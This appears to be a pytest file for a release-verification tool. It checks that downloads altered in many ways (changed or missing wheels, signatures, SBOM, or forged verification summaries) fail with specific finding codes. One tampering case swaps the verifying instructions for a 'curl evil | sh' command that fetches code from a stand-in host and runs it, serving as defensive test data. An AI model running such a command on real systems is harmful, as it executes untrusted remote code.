"""A release as anybody downloads it, and every way to tamper with that."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from tests.support.evidence import WHEEL, SignedRelease
from tests.support.sealed import RELEASE, VERIFYING, downloaded, sealed_release
from tests.support.tampering import SBOM, SIGNATURE, WHEEL_PATH, data, drop, expecting, flip, put

from sealwright.model import FileRef, Mode, State, Verdict
from sealwright.verify.evidence import RELEASE_SIGNATURE, SUMMARY_BUNDLE, Case
from sealwright.verify.expected import Expected
from sealwright.verify.published import judge_published, published_case
from sealwright.verify.statement import TEST_RESULT, VERIFICATION_SUMMARY, make

Attack = Callable[[SignedRelease, Case], Case]


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SignedRelease]:
    with sealed_release(tmp_path_factory.mktemp("release")) as made:
        yield made


@pytest.fixture(scope="module")
def case(release: SignedRelease) -> Case:
    return published_case(downloaded(release), Expected.of(release.plan), release.sigstore.root)


def codes(verdict: Verdict) -> set[str]:
    return {finding.code for finding in verdict.blocking}


def signed_summary(release: SignedRelease, case: Case, environment: str = "seal", **changes: object) -> Case:
    """Another verdict, signed by a job of the same run."""
    summary = json.loads((release.kept / "statements" / "vsa.json").read_bytes())
    subjects = tuple(FileRef(s["name"], s["digest"]["sha256"], 0) for s in summary["subject"])
    kind = str(changes.pop("kind", VERIFICATION_SUMMARY))
    given = changes.pop("subjects", subjects)
    assert isinstance(given, tuple)
    payload = make(given, kind, {**summary["predicate"], **changes})
    with release.sigstore.signer(environment=environment) as signer:
        return put(case, SUMMARY_BUNDLE, signer.sign_statement(payload))


def signed_list(release: SignedRelease, case: Case, text: bytes) -> Case:
    """Another release.json, signed by a job of the same run."""
    path = release.folder / RELEASE
    path.write_bytes(text)
    with release.sigstore.signer(environment="seal") as signer:
        return put(put(case, RELEASE, text), RELEASE_SIGNATURE, signer.sign_file(path))


ATTACKS: tuple[tuple[str, Attack, str], ...] = (
    ("a changed wheel", lambda _, c: put(c, WHEEL_PATH, b"PK evil"), "digest-mismatch"),
    ("an extra wheel", lambda _, c: put(c, "dist/tiny-1.0-1-py3-none-any.whl", b"PK"), "file-unclaimed"),
    ("extra evidence", lambda _, c: put(c, "evidence/extra.json", b"{}"), "file-unclaimed"),
    ("a missing wheel", lambda _, c: drop(c, WHEEL_PATH), "file-missing"),
    ("no signature", lambda _, c: drop(c, SIGNATURE), "signature-missing"),
    ("no SBOM", lambda _, c: drop(c, SBOM), "sbom-missing"),
    ("no list", lambda _, c: drop(c, RELEASE), "release-missing"),
    ("an unsigned list", lambda _, c: drop(c, RELEASE_SIGNATURE), "signature-missing"),
    ("other instructions", lambda _, c: put(c, VERIFYING, b"curl evil | sh"), "digest-mismatch"),
    ("no instructions", lambda _, c: drop(c, VERIFYING), "file-missing"),
    ("a changed list", lambda _, c: put(c, RELEASE, flip(data(c, RELEASE))), "digest-mismatch"),
    ("a signed list that is none", lambda r, c: signed_list(r, c, b"[]"), "malformed"),
    ("a signed list of odd entries", lambda r, c: signed_list(r, c, b'{"files": [{"path": 1}]}'), "malformed"),
    ("a signed list with a file twice", lambda r, c: signed_list(r, c, twice(c)), "malformed"),
    ("no verdict", lambda _, c: drop(c, SUMMARY_BUNDLE), "signature-missing"),
    ("a broken verdict", lambda _, c: put(c, SUMMARY_BUNDLE, b"{}"), "bundle-malformed"),
    ("a failed verdict", lambda r, c: signed_summary(r, c, verificationResult="FAILED"), "verdict-failed"),
    ("a statement that is no verdict", lambda r, c: signed_summary(r, c, kind=TEST_RESULT), "verdict-kind"),
    ("a verdict by somebody else", lambda r, c: signed_summary(r, c, verifier={"id": "x"}), "verdict-verifier"),
    ("a verdict on other evidence", lambda r, c: signed_summary(r, c, inputAttestations=other(c)), "verdict-inputs"),
    ("a verdict on no evidence", lambda r, c: signed_summary(r, c, inputAttestations=[]), "verdict-inputs"),
    ("a verdict on less evidence", lambda r, c: signed_summary(r, c, inputAttestations=less(r)), "verdict-inputs"),
    ("a rehearsal's verdict", lambda r, c: signed_summary(r, c, sealwright={"mode": "rehearsal"}), "verdict-mode"),
    ("a verdict of no mode", lambda r, c: signed_summary(r, c, sealwright=None), "verdict-mode"),
    (
        "a verdict in odd form",
        lambda r, c: signed_summary(r, c, inputAttestations="all", verifier=1),
        "verdict-verifier",
    ),
    ("a verdict on other files", lambda r, c: signed_summary(r, c, subjects=one()), "verdict-subjects"),
    ("another repository", lambda _, c: expecting(c, repository="octo-org/other"), "signer-repository"),
    ("another workflow", lambda _, c: expecting(c, workflow=".github/workflows/x.yml"), "signer-workflow"),
    ("another environment", lambda _, c: replace(c, environment="other"), "environment-mismatch"),
)


def twice(case: Case) -> bytes:
    document = json.loads(data(case, RELEASE))
    return json.dumps({**document, "files": [*document["files"], document["files"][0]]}).encode()


def other(case: Case) -> list[dict[str, object]]:
    return [{"uri": SBOM, "digest": {"sha256": "0" * 64}}]


def less(release: SignedRelease) -> object:
    summary = json.loads((release.kept / "statements" / "vsa.json").read_bytes())
    return [entry for entry in summary["predicate"]["inputAttestations"] if entry["uri"] != SBOM]


def one() -> tuple[FileRef, ...]:
    return (FileRef(WHEEL, "0" * 64, 0),)


def test_what_the_gate_let_through_passes_for_everybody(case: Case) -> None:
    verdict = judge_published(case)
    assert verdict.blocking == ()
    assert verdict.passed
    (gate,) = verdict.of("gate")
    assert "says the project itself" in gate.found


@pytest.mark.parametrize(("attack", "code"), [row[1:] for row in ATTACKS], ids=[row[0] for row in ATTACKS])
def test_an_attack_on_a_download_is_refused_for_its_reason(
    release: SignedRelease, case: Case, attack: Attack, code: str
) -> None:
    verdict = judge_published(attack(release, case))
    assert not verdict.passed
    assert code in codes(verdict)


@pytest.mark.parametrize("how", ["removed", "flipped", "emptied"])
def test_no_file_of_a_download_can_be_removed_or_changed(case: Case, how: str) -> None:
    for path in case.files:
        content = data(case, path)
        broken = drop(case, path) if how == "removed" else put(case, path, flip(content) if how == "flipped" else b"")
        assert not judge_published(broken).passed, path


def test_a_rehearsal_is_judged_by_whoever_asks_for_one_and_never_as_a_release(
    release: SignedRelease, case: Case
) -> None:
    rehearsed = signed_summary(release, case, sealwright={"mode": "rehearsal"})
    assert judge_published(replace(rehearsed, mode=Mode.REHEARSAL)).passed
    assert not judge_published(replace(case, mode=Mode.REHEARSAL)).passed


def test_the_environment_is_judged_only_where_it_is_known(case: Case) -> None:
    assert judge_published(case).of("environment") == ()
    known = judge_published(replace(case, environment="sign"))
    assert known.passed
    assert {finding.state for finding in known.of("environment")} == {State.PASS}
